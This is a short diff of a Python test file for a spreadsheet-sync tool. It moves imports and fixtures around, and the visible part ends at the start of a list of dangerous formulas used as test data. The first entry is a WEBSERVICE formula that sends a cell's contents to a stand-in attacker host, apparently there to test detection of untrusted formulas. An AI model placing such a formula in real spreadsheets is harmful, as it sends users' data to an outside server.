@@ -10,7 +10,8 @@ from pathlib import Path
 import openpyxl
 import pytest
 import test_sheets_sync as end_to_end
-from test_sheets_sync import KEY, edit_workbook, sheet_row, type_in, wb_find
+from sheets_support import KEY
+from test_sheets_sync import edit_workbook, sheet_row, type_in, wb_find
 
 from icp_sheets.core.names import ACCOUNTS, SETTINGS
 from icp_sheets.example import ACCOUNT_COLUMNS
@@ -19,7 +20,7 @@ from icp_sheets.sheets.sync import sync
 from icp_sheets.sheets.trust import TARGET_SETTING, TRUST_SETTING, untrusted_parts
 from icp_sheets.testing.fake_sheets import FakeSheets
 
-fake, conn, pushed = end_to_end.fake, end_to_end.conn, end_to_end.pushed  # the end-to-end fixtures
+pushed = end_to_end.pushed  # the end-to-end workbook (fake and conn come from conftest)
 
 DANGEROUS = [
     '=WEBSERVICE("http://evil.example/?d="&A4)',
